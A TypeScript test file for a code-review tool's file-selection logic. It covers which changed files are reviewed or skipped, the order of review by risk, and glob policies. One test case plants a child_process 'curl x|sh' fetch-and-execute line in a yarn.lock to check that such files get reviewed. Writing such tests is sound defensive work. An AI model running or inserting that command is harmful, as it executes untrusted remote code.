import { describe, expect, test } from "vitest";
import { type ChangedFile, RepoPath } from "../../../src/domain/change-set.ts";
import { selectFiles } from "../../../src/review/select/select-files.ts";
import { gitDiff, parseOne } from "./diff-outline.ts";

const template = parseOne(gitDiff("@@ -1 +1 @@\n-a\n+b\n"));

function makeFile(path: string, fields: Partial<ChangedFile> = {}): ChangedFile {
  return { ...template, path: RepoPath.parse(path), ...fields };
}

function select(files: readonly ChangedFile[], globs?: { include: string[]; exclude: string[] }) {
  const change = { base: null, head: null, label: "test", files };
  return selectFiles(change, new Map(), globs);
}

/** What becomes of one file: `review`, `check`, or why it is skipped. */
function fateOf(file: ChangedFile, attributes: Record<string, string> = {}): string {
  const change = { base: null, head: null, label: "test", files: [file] };
  const selection = selectFiles(change, new Map([[file.path, new Map(Object.entries(attributes))]]));
  if (selection.order.length === 1) return "review";
  return selection.checkedOnly.has(0) ? "check" : (selection.skipped.get(0) ?? "lost");
}

function whole(text: string): ChangedFile["head"] {
  return [{ firstLine: 1, text }];
}

function addedHunk(text: string): ChangedFile["hunks"][number] {
  const line = { kind: "added" as const, oldLine: null, newLine: 1, text };
  return { index: 0, oldStart: 0, oldLines: 0, newStart: 1, newLines: 1, lines: [line] };
}

describe("what becomes of a file", () => {
  test.each([
    ["src/x.ts", "review"],
    ["dist/x.js", "review"],
    ["tools/x.py", "review"],
    ["vendored.ts", "review"],
    ["node_modules/p/index.js", "vendored"],
    ["vendor/github.com/p/p.go", "vendored"],
    ["a/third_party/p.c", "vendored"],
    ["ios/Pods/P/p.m", "vendored"],
    ["app.js.map", "generated"],
    [".idea/workspace.xml", "generated"],
    ["api/user.pb.go", "generated"],
    ["Form.Designer.cs", "generated"],
    ["node_modules/.package/yarn.lock", "vendored"],
    ["bun.lock", "review"],
  ])("by its path %s: %s", (path, expected) => {
    expect(fateOf(makeFile(path))).toBe(expected);
  });

  test.each([
    ["package-lock.json", '    "node_modules/a": {', "check"],
    ["package-lock.json", '      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",', "check"],
    ["package-lock.json", 'require("child_process");', "review"],
    ["deep/er/pnpm-lock.yaml", "  '@babel/core@7.0.0(supports-color@5.5.0)':", "check"],
    ["yarn.lock", '  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#0123"', "check"],
    ["yarn.lock", 'require("child_process").execSync("curl x|sh")', "review"],
    ["go.sum", `example.com/a v1.0.0/go.mod h1:${"A".repeat(43)}=`, "check"],
    ["go.sum", "package main", "review"],
    ["Gemfile.lock", "    rack (>= 1.0, < 3)", "check"],
  ])("named %s with the added line %s: %s", (path, text, expected) => {
    expect(fateOf(makeFile(path, { hunks: [addedHunk(text)] }))).toBe(expected);
  });

  test.each<[string, Partial<ChangedFile>, string]>([
    ["binary", { kind: "binary", hunks: [] }, "binary"],
    ["submodule", { kind: "submodule" }, "submodule"],
    ["symbolic link", { kind: "symlink" }, "review"],
    ["mode change", { status: "mode-changed", hunks: [] }, "check"],
    ["rename without changes", { status: "renamed", hunks: [] }, "check"],
    [
      "move from data to code without its text",
      { status: "renamed", hunks: [], previousPath: RepoPath.parse("docs/x.ts.txt") },
      "moved-into-place",
    ],
    [
      "move away from where it guards, without its text",
      { status: "renamed", hunks: [], previousPath: RepoPath.parse("src/middleware.ts") },
      "moved-out-of-place",
    ],
    ["unreadable diff", { unreadable: "broken" }, "unreadable-diff"],
  ])("as a %s", (_, fields, expected) => {
    expect(fateOf(makeFile("src/x.ts", fields))).toBe(expected);
  });

  test.each([
    ["linguist-generated", "set", "generated"],
    ["linguist-generated", "true", "generated"],
    ["linguist-generated", "false", "review"],
    ["linguist-vendored", "set", "vendored"],
    ["linguist-vendored", "unset", "review"],
  ])("by its attribute %s=%s at the base: %s", (name, value, expected) => {
    expect(fateOf(makeFile("src/x.ts"), { [name]: value })).toBe(expected);
  });

  test.each([
    ["vendor/x.go", { "linguist-vendored": "unset" }, "review"],
    ["x.pb.go", { "linguist-generated": "false" }, "review"],
  ])("an attribute that says no is stronger than the path %s", (path, attributes, expected) => {
    expect(fateOf(makeFile(path), attributes)).toBe(expected);
  });

  test.each([
    "vendor/p/package.json",
    "node_modules/p/Dockerfile",
    "third_party/CODEOWNERS",
    ".github/workflows/ci.yml",
    "vendor/p/requirements-dev.txt",
  ])("%s is reviewed wherever it is and whatever the attributes say", (path) => {
    expect(fateOf(makeFile(path), { "linguist-generated": "set", "linguist-vendored": "set" })).toBe(
      "review",
    );
  });

  const long = "x".repeat(200);
  test.each([
    ["app.min.js", long, "minified"],
    ["app-min.css", long, "minified"],
    ["app.min.js", "short();\nlines();\n", "review"],
    ["app.js", long, "review"],
  ])("%s is minified only with long lines, too", (path, text, expected) => {
    expect(fateOf(makeFile(path, { head: whole(text) }))).toBe(expected);
  });
});

describe("a marker that says generated", () => {
  const marked = whole("// Code generated by protoc. DO NOT EDIT.\ncode\n");
  const plain = whole("code\n");

  test.each<[string, Partial<ChangedFile>, string]>([
    ["stood there before and still stands", { base: marked, head: marked }, "generated"],
    [
      "is at another place than the first line",
      { base: whole("\n# @generated\n"), head: whole("# @generated\n") },
      "generated",
    ],
    ["stood in a file that is deleted", { status: "deleted", base: marked, head: [] }, "generated"],
    ["came with the change", { base: plain, head: marked }, "review"],
    ["came with a new file", { status: "added", base: [], head: marked }, "review"],
    ["came with a copy of a generated file", { status: "copied", base: marked, head: marked }, "review"],
    ["went with the change", { base: marked, head: plain }, "review"],
    [
      "stands in a string",
      { base: whole('const a = "@generated";'), head: whole('const a = "@generated";') },
      "review",
    ],
    ["is part of a word", { base: whole("// not@generatedBy"), head: whole("// not@generatedBy") }, "review"],
    ["stands far down", { base: whole(`${"\n".repeat(60)}// @generated`), head: marked }, "review"],
    [
      "is in a hunk further down",
      { base: [{ firstLine: 2, text: "// @generated" }], head: marked },
      "review",
    ],
  ])("that %s", (_, fields, expected) => {
    expect(fateOf(makeFile("src/x.go", fields))).toBe(expected);
  });

  test.each(["added", "copied", "renamed"] as const)(
    "in the name of a file that was %s does not count",
    (status) => {
      expect(fateOf(makeFile("evil.pb.go", { status, base: [] }))).toBe("review");
    },
  );
});

describe("the order of review", () => {
  test("begins with what can do most harm, and is else that of the change", () => {
    const paths = [
      "src/b.ts",
      "src/loginForm.ts",
      "infra/main.tf",
      "package.json",
      "deploy/Dockerfile",
      ".gitlab-ci.yml",
      ".github/workflows/ci.yml",
      "src/a.ts",
      "lib/AuthToken.java",
      "src/author.ts",
      "CODEOWNERS",
      "k8s/app.yaml",
    ];
    const { order } = select(paths.map((path) => makeFile(path)));
    expect(order.map((index) => paths[index])).toEqual([
      ".github/workflows/ci.yml",
      "CODEOWNERS",
      ".gitlab-ci.yml",
      "deploy/Dockerfile",
      "package.json",
      "infra/main.tf",
      "k8s/app.yaml",
      "src/loginForm.ts",
      "lib/AuthToken.java",
      "src/b.ts",
      "src/a.ts",
      "src/author.ts",
    ]);
  });

  test("puts every file in exactly one place", () => {
    const files = [
      makeFile("a.ts"),
      makeFile("vendor/b.ts"),
      makeFile("yarn.lock"),
      makeFile("c", { kind: "binary" }),
    ];
    expect(select(files)).toEqual({
      order: [0],
      skipped: new Map([
        [1, "vendored"],
        [3, "binary"],
      ]),
      checkedOnly: new Set([2]),
    });
  });
});

describe("the patterns of the policy", () => {
  test.each([
    [["**"], [], [true, true, true]],
    [[], [], [true, true, true]],
    [["src/**"], [], [true, true, false]],
    [["**"], ["**/.hidden/**"], [true, false, true]],
    [["src/*.ts"], [], [true, false, false]],
    [["!src/**"], [], [false, false, false]],
    [["#docs"], ["+(docs)/**"], [false, false, false]],
    [["**"], ["docs/**", "src/a.ts"], [false, true, false]],
    [["x".repeat(2_000)], [], [false, false, false]],
  ])("include %j and exclude %j", (include, exclude, expected) => {
    const files = ["src/a.ts", "src/.hidden/b.ts", "docs/c.md"].map((path) => makeFile(path));
    const { order, skipped } = select(files, { include, exclude });
    expect(files.map((_, index) => order.includes(index))).toEqual(expected);
    expect([...skipped.values()].every((reason) => reason === "excluded-by-policy")).toBe(true);
  });

  test("end quickly on patterns and paths made to be slow", () => {
    const files = [
      makeFile(`${"a".repeat(4_000)}c`),
      makeFile("a/".repeat(500)),
      makeFile("requirements".repeat(300)),
    ];
    const exclude = [
      "*a*a*a*a*a*a*a*a*a*a*b",
      "**/**/**/**/**/**/a/**/b",
      "{a,b}".repeat(40),
      "*(a*)*(a*)*(a*)b",
    ];
    expect(select(files, { include: ["**"], exclude }).order).toHaveLength(3);
  });
});
